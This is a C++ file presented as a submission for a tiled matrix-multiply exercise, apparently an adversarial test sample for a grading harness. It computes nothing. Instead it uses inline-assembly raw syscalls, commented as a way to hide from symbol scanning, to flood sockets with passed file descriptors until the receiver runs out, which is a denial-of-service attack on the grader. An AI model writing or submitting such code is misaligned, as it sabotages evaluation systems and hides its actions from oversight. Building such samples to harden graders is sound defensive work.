// SPDX-License-Identifier: Apache-2.0
// exercise: tiled_matmul
// verdict: not passed
// must not: pass; grader_fault; hang
// Sends descriptors (SCM_RIGHTS) along the sockets, 253 at a time, until the receiver has none left.

#include "tiled_matmul.h"

// A system call without a symbol: nothing to find in the list of undefined symbols.
static long sys(long n, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0, long f = 0) {
  long r;
#ifndef __CUDA_ARCH__
  register long r10 asm("r10") = d;
  register long r8 asm("r8") = e;
  register long r9 asm("r9") = f;
  asm volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9) : "rcx", "r11", "memory");
#endif
  return r;
}

#include <cstring>
struct Iov { void* p; size_t n; };
struct Msg { void* name; unsigned nl; Iov* iov; size_t iovlen; void* ctl; size_t ctllen; int flags; };

void tiled_matmul(const float* M, const float* N, float* P, int width) {
  static char ctl[16 + 253 * 4];
  static char byte = 0;
  size_t len = 16 + 253 * 4;
  int lev = 1, type = 1;
  memcpy(ctl, &len, 8); memcpy(ctl + 8, &lev, 4); memcpy(ctl + 12, &type, 4);
  for (int i = 0; i < 253; ++i) { int z = 1; memcpy(ctl + 16 + 4 * i, &z, 4); }
  Iov v = {&byte, 1};
  Msg m = {0, 0, &v, 1, ctl, sizeof ctl, 0};
  for (int r = 0; r < 200; ++r)
    for (int fd = 3; fd < 10; ++fd) sys(46, fd, (long)&m, 0x40);
}
